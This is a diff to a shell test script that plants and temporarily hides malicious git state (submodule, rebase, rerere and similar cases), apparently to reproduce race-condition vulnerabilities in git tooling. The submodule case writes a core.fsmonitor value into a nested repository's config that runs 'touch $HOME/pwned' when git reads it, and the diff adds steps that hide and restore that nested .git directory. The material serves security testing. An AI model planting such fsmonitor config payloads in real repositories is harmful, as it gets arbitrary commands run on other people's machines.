@@ -6,9 +6,11 @@ if [ "$2" = plant ]; then
     submodule)
         git init -q d/e
         git -C d/e commit -q --allow-empty -m first
-        cp .git/index clean
         printf '[core]\n\tfsmonitor = "touch %s/pwned; false"\n' "$HOME" >>d/e/.git/config
+        git checkout -q -b feature
         git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),d/e"
+        git commit -qm feature
+        git checkout -q main
         ;;
     rebase)
         git commit -q --allow-empty -m second
@@ -32,7 +34,7 @@ if [ "$2" = plant ]; then
     wait_for end-first
 else
     case $1 in
-    submodule) cp .git/index evil && cp clean .git/index ;;
+    submodule) mv d/e/.git d/e/hidden ;;
     rebase) mv .git/rebase-merge hidden-rebase ;;
     link) mv .git/COMMIT_EDITMSG hidden-link ;;
     rerere) mv .git/MERGE_RR hidden-rerere ;;
@@ -43,7 +45,8 @@ else
     touch hidden
     wait_for end-second
     case $1 in
-    submodule | mark) cp evil .git/index ;;
+    submodule) mv d/e/hidden d/e/.git ;;
+    mark) cp evil .git/index ;;
     rebase) mv hidden-rebase .git/rebase-merge ;;
     link) mv hidden-link .git/COMMIT_EDITMSG ;;
     rerere) mv hidden-rerere .git/MERGE_RR ;;
